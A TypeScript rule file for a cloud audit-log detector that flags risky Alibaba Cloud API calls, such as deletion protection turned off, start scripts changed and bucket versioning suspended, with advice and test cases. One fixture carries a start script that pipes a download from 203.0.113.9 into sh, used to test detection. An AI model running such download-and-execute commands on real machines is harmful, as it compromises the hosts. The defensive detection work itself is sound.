import type { AuditEvent } from '../../evidence/types';
import { bucketOf } from '../account';
import { carriesHostileScript } from '../commands';
import { expiresAllSoon } from '../lifecycle';
import { parameter, wordsOf } from '../parameters';
import type { Rule } from './model';

const expiring = (prefix: string, days: number) =>
  `<Rule><Prefix>${prefix}</Prefix><Status>Enabled</Status><Expiration><Days>${days}</Days></Expiration></Rule>`;
const PROTECTED = /^(ecs|vpc|slb|alb|nlb|rds|polardb)$/i;
const PROTECTING =
  /^(ModifyInstanceAttribute|DeletionProtection|ModifyDBInstanceDeletionProtection|SetLoadBalancerDeleteProtection)$/;
/** Calls that are there for nothing else. */
const ONLY_PROTECTING = /Protection$/;
const protection = (event: AuditEvent) =>
  parameter(event, 'DeletionProtection', 'ProtectionEnable', 'DeleteProtection');
const isOff = (value: string | undefined): boolean => /^(false|0|off)$/i.test(value ?? '');

/**
 * What is changed about what is there: businesses do each of it every day, and each is a step of somebody's attack.
 * Together with `DEFENCES` and the others these know every call of Alibaba's own alert rules that a key can make.
 */
export const CHANGES: readonly Rule[] = [
  {
    id: 'network-changed',
    kind: 'alarms-silenced',
    severity: 'medium',
    technique: 'T1562.007',
    text: { zh: '更改了网络或防火墙规则', en: 'Networks or their firewalls were changed' },
    advice: {
      zh: '对照变更前的设置核对安全组、防火墙和路由，删除不属于您的规则：对方可能借此打开了入口，或绕开了监控。',
      en: 'Compare security groups, firewalls and routes with what they were, and take out rules that are not yours: they may be a door, or a way around what watches.',
    },
    services: /^(ecs|vpc|cloudfw)$/i,
    calls:
      /^((Create|Modify)VpcFirewallControlPolicy|CreateSecurityGroup|AuthorizeSecurityGroupEgress|RevokeSecurityGroup(Egress)?|(Join|Leave)SecurityGroup|ModifySecurityGroupPolicy|ConfigureSecurityGroupPermissions|CreateVpc|CreateVSwitch|(En|Dis)ableVpcClassicLink|(Una|A)ssociateVpcCidrBlock|RevokeInstanceFromCen|(Create|Modify)RouteEntry|(Una|A)ssociateRouteTable)$/,
    weight: 'weak',
    fires: [{ call: 'Ecs RevokeSecurityGroup', weight: 'weak' }],
    silent: [{ call: 'Vpc DescribeRouteTables' }],
  },
  {
    id: 'protection-taken-off',
    kind: 'destruction',
    severity: 'high',
    technique: 'T1562.001',
    text: { zh: '关闭了释放保护', en: 'The protection against release was taken off' },
    advice: {
      zh: '重新打开释放保护，并确认资源仍在：关闭保护常常是删除前的一步。',
      en: 'Turn the protection on again and see that the resource still stands: taking it off is the step before a deletion.',
    },
    services: PROTECTED,
    calls: PROTECTING,
    holds: (event) => isOff(protection(event)),
    weight: 'weak',
    fires: [{ call: 'Ecs ModifyInstanceAttribute', request: { DeletionProtection: 'false' }, weight: 'weak' }],
    silent: [{ call: 'Ecs ModifyInstanceAttribute', request: { DeletionProtection: true } }],
  },
  {
    id: 'protection-changed',
    kind: 'destruction',
    severity: 'medium',
    technique: 'T1562.001',
    text: {
      zh: '可能关闭了释放保护：导出的事件没有写明改成了什么',
      en: 'The protection against release may have been taken off: the export does not say what was changed',
    },
    advice: {
      zh: '在控制台查看该资源的释放保护是否打开，以及资源是否仍在：关闭保护常常是删除前的一步。',
      en: 'See in the console whether the protection is on and the resource still stands: taking it off is the step before a deletion.',
    },
    services: PROTECTED,
    calls: PROTECTING,
    holds: (event) =>
      ONLY_PROTECTING.test(event.name) ? protection(event) === undefined : wordsOf(event).length === 0,
    weight: 'weak',
    fires: [
      { call: 'Vpc DeletionProtection', request: { InstanceId: 'eip-1' }, weight: 'weak' },
      { call: 'Ecs DeletionProtection', weight: 'weak' },
      { call: 'Ecs ModifyInstanceAttribute', weight: 'weak' },
    ],
    silent: [
      { call: 'Vpc DeletionProtection', request: { InstanceId: 'eip-1', ProtectionEnable: 'true' } },
      { call: 'Ecs ModifyInstanceAttribute', request: { InstanceName: 'web-1' } },
    ],
  },
  {
    id: 'machine-changed',
    kind: 'persistence',
    severity: 'high',
    technique: 'T1098.004',
    text: { zh: '更改了实例的密码或启动脚本', en: 'The password or the start script of an instance was changed' },
    advice: {
      zh: '视该实例为已被入侵：隔离，保留快照取证，换掉密码和启动脚本后再重启，并更换实例上的密钥。',
      en: 'Take the instance as broken into: isolate it, keep a snapshot as evidence, replace password and start script before the next start, and change the secrets on it.',
    },
    services: /^ecs$/i,
    calls: /^ModifyInstanceAttribute$/,
    holds: (event) => wordsOf(event).some(({ name }) => /^(Password|UserData)$/i.test(name)),
    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'weak'),
    fires: [
      { call: 'Ecs ModifyInstanceAttribute', request: { UserData: 'IyEvYmluL3No' }, weight: 'weak' },
      {
        call: 'Ecs ModifyInstanceAttribute',
        request: { UserData: '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh' },
        weight: 'grave',
      },
    ],
    silent: [{ call: 'Ecs ModifyInstanceAttribute', request: { InstanceName: 'web-1' } }],
  },
  {
    id: 'machine-restarted',
    kind: 'destruction',
    severity: 'medium',
    technique: 'T1529',
    text: { zh: '重启或停止了实例', en: 'Instances were restarted or stopped' },
    advice: {
      zh: '核对是谁停止或重启了实例，检查重启后执行的启动脚本和服务，恢复业务。',
      en: 'Ask who stopped or restarted the instances, look at the start scripts and services that ran afterwards, and bring the service back.',
    },
    services: /^ecs$/i,
    calls: /^(Reboot|Stop)Instances?$/,
    weight: 'weak',
    fires: [{ call: 'Ecs RebootInstances', weight: 'weak' }],
    silent: [{ call: 'Ecs DescribeInstanceStatus' }],
  },
  {
    id: 'disk-made',
    kind: 'data',
    severity: 'medium',
    technique: 'T1578.002',
    text: { zh: '创建了云盘', en: 'Disks were made' },
    advice: {
      zh: '查看云盘由哪个快照创建、挂载到哪台实例：复制数据常由此开始。不属于您的云盘，取证后释放。',
      en: 'See which snapshot each disk was made from and which instance it is attached to: copying data begins so. Release what is not yours, after keeping evidence.',
    },
    services: /^ecs$/i,
    calls: /^CreateDisks?$/,
    weight: 'weak',
    fires: [{ call: 'Ecs CreateDisk', request: { SnapshotId: 's-1' }, weight: 'weak' }],
    silent: [{ call: 'Ecs DescribeDisks' }],
  },
  {
    id: 'bucket-lifetime',
    kind: 'destruction',
    severity: 'high',
    technique: 'T1485.001',
    text: {
      zh: '更改了存储空间的生命周期或加密方式',
      en: 'How long a bucket keeps its objects, or the key that encrypts them, was changed',
    },
    advice: {
      zh: '立即改回生命周期和加密设置：生命周期规则会在当天删除对象，陌生的加密密钥会让您读不了自己的数据。',
      en: 'Put the lifecycle and encryption back at once: a lifecycle rule deletes objects within the day, and a strange key locks you out of your own data.',
    },
    services: /^oss$/i,
    calls: /^PutBucket(Lifecycle|Encryption)$/,
    // What lies in a bucket of the same day is its maker's.
    weight: (event, account) =>
      expiresAllSoon(event) && !account.isFreshBucket(bucketOf(event) ?? '', event.at) ? 'strong' : 'weak',
    fires: [
      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('', 1) }, weight: 'strong' },
      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'fresh', rule: expiring('', 1) }, weight: 'weak' },
      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('tmp/', 1) }, weight: 'weak' },
      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('', 180) }, weight: 'weak' },
    ],
    silent: [{ call: 'Oss GetBucketLifecycle' }],
  },
  {
    id: 'versions-suspended',
    kind: 'destruction',
    severity: 'high',
    technique: 'T1490',
    text: { zh: '暂停了存储空间的版本控制', en: 'A bucket was told to keep no more versions' },
    advice: {
      zh: '立即重新开启版本控制：暂停期间被覆盖或删除的对象无法恢复，请从备份中找回。',
      en: 'Turn versioning on again at once: what was overwritten or deleted meanwhile has no former version, so look for it in your backups.',
    },
    services: /^oss$/i,
    calls: /^PutBucketVersioning$/,
    holds: (event) => wordsOf(event).some(({ word }) => /^\s*suspended\s*$|<Status>\s*Suspended/i.test(word)),
    weight: 'weak',
    fires: [{ call: 'Oss PutBucketVersioning', request: { bucketName: 'b', status: 'Suspended' }, weight: 'weak' }],
    silent: [{ call: 'Oss PutBucketVersioning', request: { bucketName: 'b', status: 'Enabled' } }],
  },
  {
    id: 'database-changed',
    kind: 'database',
    severity: 'medium',
    technique: 'T1562.001',
    text: {
      zh: '更改了数据库的加密连接、公网入口或高可用设置',
      en: "A database's encryption, public door or failover was changed",
    },
    advice: {
      zh: '关闭不属于您的公网入口，重新打开加密连接，核对白名单和账号，更换数据库密码。',
      en: "Close public doors that are not yours, turn encrypted connections on again, check the allowlist and the accounts, and change the database's passwords.",
    },
    services: /^rds$/i,
    calls:
      /^(ModifyDBInstanceSSL|AllocateInstancePublicConnection|ModifyHASwitchConfig|ModifyDBInstanceHAConfig|SwitchDBInstanceHA|ModifyDBInstanceSpec|MigrateSecurityIPMode|MigrateToOtherZone|UpgradeDBInstance(Kernel|Engine)Version|ModifyDBInstance(MaintainTime|AutoUpgradeMinorVersion))$/,
    weight: 'weak',
    fires: [{ call: 'Rds AllocateInstancePublicConnection', weight: 'weak' }],
    silent: [{ call: 'Rds DescribeDBInstanceSSL' }],
  },
  {
    id: 'listener-unencrypted',
    kind: 'data',
    severity: 'medium',
    technique: 'T1557',
    text: { zh: '创建了未加密的监听', en: 'A listener without encryption was made' },
    advice: {
      zh: '核对该监听及其后端服务器，不属于您的予以删除；经过它的密码视为已外泄。',
      en: 'Check the listener and the servers behind it, delete what is not yours, and take passwords that went through it as known.',
    },
    services: /^slb$/i,
    calls: /^CreateLoadBalancerHTTPListener$/,
    weight: 'weak',
    fires: [{ call: 'Slb CreateLoadBalancerHTTPListener', weight: 'weak' }],
    silent: [{ call: 'Slb CreateLoadBalancerHTTPSListener' }],
  },
];
